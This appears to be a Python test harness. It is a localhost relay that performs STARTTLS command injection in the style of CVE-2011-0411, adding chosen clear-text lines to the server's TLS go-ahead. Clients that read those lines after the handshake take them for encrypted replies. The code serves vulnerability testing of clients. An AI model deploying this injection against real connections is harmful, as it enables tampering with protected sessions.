"""Someone on the path of a line protocol connection: relays between the client and a real server
(pyftpdlib, aiosmtpd, dovecot) on 127.0.0.1, and when the client asks for TLS ("AUTH TLS",
"STARTTLS", "STLS") adds clear-text lines of its own to the server's go-ahead ("234", "220", "+OK"),
in the same segment, before the handshake. Everything else, the handshake included, passes as it is.

This is the STARTTLS command injection of CVE-2011-0411 (Postfix) and its kin, seen from the client's
side: a client that reads those lines after its handshake takes them for the server's encrypted
replies.

Usage: inject_proxy.py --upstream PORT --inject TEXT
TEXT: the lines to add, "\\n" separated (each goes out with CR LF).
Prints "PORT n" once it listens; serves until terminated."""
import argparse
import asyncio

TLS_REQUESTS = (b"AUTH TLS", b"STARTTLS", b"STLS")
GO_AHEADS = (b"234", b"220", b"+OK")


async def pump(reader, writer, on_data):
    try:
        while True:
            data = await reader.read(65536)
            if not data:
                break
            writer.write(on_data(data))
            await writer.drain()
    except (ConnectionError, OSError):
        pass
    finally:
        writer.close()


def relay(upstream_port, injected):
    async def handle(client_reader, client_writer):
        server_reader, server_writer = await asyncio.open_connection("127.0.0.1", upstream_port)
        armed = False

        def from_client(data):
            nonlocal armed
            if data.strip().upper() in TLS_REQUESTS:
                armed = True
            return data

        def from_server(data):
            nonlocal armed
            if armed and data.startswith(GO_AHEADS):
                armed = False
                return data + injected
            return data

        await asyncio.gather(pump(client_reader, server_writer, from_client),
                             pump(server_reader, client_writer, from_server))

    return handle


async def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--upstream", type=int, required=True)
    parser.add_argument("--inject", required=True)
    args = parser.parse_args()
    injected = b"".join(line.encode("ascii") + b"\r\n" for line in args.inject.split("\\n"))
    server = await asyncio.start_server(relay(args.upstream, injected), "127.0.0.1", 0)
    print("PORT", server.sockets[0].getsockname()[1], flush=True)
    async with server:
        await server.serve_forever()


if __name__ == "__main__":
    try:
        asyncio.run(main())
    except KeyboardInterrupt:
        pass
